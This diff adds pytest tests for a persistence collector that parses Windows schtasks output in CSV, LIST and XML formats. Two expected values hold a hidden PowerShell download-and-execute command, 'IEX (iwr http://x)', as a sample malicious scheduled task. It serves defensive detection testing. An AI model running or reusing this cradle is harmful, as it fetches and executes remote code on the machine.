@@ -0,0 +1,74 @@
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from kairos.collectors.persistence import (
+    PersistItem, collect_tasks, parse_schtasks, parse_schtasks_csv, parse_schtasks_list, parse_schtasks_xml,
+)
+
+FIXTURES = Path(__file__).parent / "fixtures" / "schtasks"
+
+UPDATER = r'"C:\Program Files\Upd, Inc\upd.exe" --silent'
+DEFRAG = PersistItem("task", r"\Microsoft\Windows\Defrag\ScheduledDefrag", r"%windir%\system32\defrag.exe -c -h -o",
+                     "Weekly")
+
+def _read(name: str) -> str:
+    return (FIXTURES / name).read_text(encoding="utf-8")
+
+def test_csv_quoted_fields_and_repeated_headers():
+    items = parse_schtasks_csv(_read("tasks_en.csv"))
+    assert items[0] == PersistItem("task", r"\Updater", UPDATER, "At logon time")
+    assert items[2] == DEFRAG  # past the second folder's header row
+    assert [i.name for i in items] == [r"\Updater", r"\Updater", DEFRAG.name, r"\Backup"]
+
+def test_csv_localized_headers_fall_back_to_positions():
+    items = parse_schtasks_csv(_read("tasks_de.csv"))
+    assert items == [
+        PersistItem("task", r"\Updater", 'powershell.exe -nop -w hidden -c "IEX (iwr http://x)"', "Bei Anmeldung"),
+        PersistItem("task", DEFRAG.name, DEFRAG.path, "Wöchentlich"),
+    ]
+
+def test_list_blocks_use_schedule_type():
+    items = parse_schtasks_list(_read("tasks_en.list"))
+    assert items[0] == PersistItem("task", r"\Updater", r"C:\Users\bob\AppData\Roaming\upd.exe -silent",
+                                   "At logon time")
+    assert items[-1] == DEFRAG
+    assert len(items) == 3
+
+def test_xml_joins_every_exec_action():
+    updater, defrag = parse_schtasks_xml(_read("tasks.xml"))
+    assert updater == PersistItem(
+        "task", r"\Updater", UPDATER + '; powershell.exe -nop -w hidden -c "IEX (iwr http://x)"',
+        "LogonTrigger, CalendarTrigger")
+    assert defrag == PersistItem("task", DEFRAG.name, DEFRAG.path, "S-1-5-18")  # no triggers: the principal
+
+@pytest.mark.parametrize("name", ["tasks_en.csv", "tasks_en.list", "tasks.xml"])
+def test_sniffed_format_and_one_item_per_task(name):
+    items = parse_schtasks(_read(name))
+    names = [i.name for i in items]
+    assert names[:1] == [r"\Updater"] and DEFRAG.name in names
+    assert len({(i.name, i.path) for i in items}) == len(items)
+
+@pytest.mark.parametrize("fmt, args", [
+    ("csv", ["schtasks.exe", "/query", "/fo", "CSV", "/v"]),
+    ("list", ["schtasks.exe", "/query", "/fo", "LIST", "/v"]),
+    ("xml", ["schtasks.exe", "/query", "/xml"]),
+])
+def test_collect_tasks_runs_schtasks_in_format(fmt, args):
+    fixture = {"csv": "tasks_en.csv", "list": "tasks_en.list", "xml": "tasks.xml"}[fmt]
+    calls = []
+
+    def runner(argv, timeout):
+        calls.append((argv, timeout))
+        return _read(fixture).encode("utf-8")
+
+    items = collect_tasks(runner, fmt=fmt, timeout=5)
+    assert calls == [(args, 5)]
+    assert items[0].name == r"\Updater"
+
+def test_collect_tasks_failure_is_empty():
+    def runner(argv, timeout):
+        raise subprocess.TimeoutExpired(argv, timeout)
+
+    assert collect_tasks(runner, fmt="csv", timeout=1) == []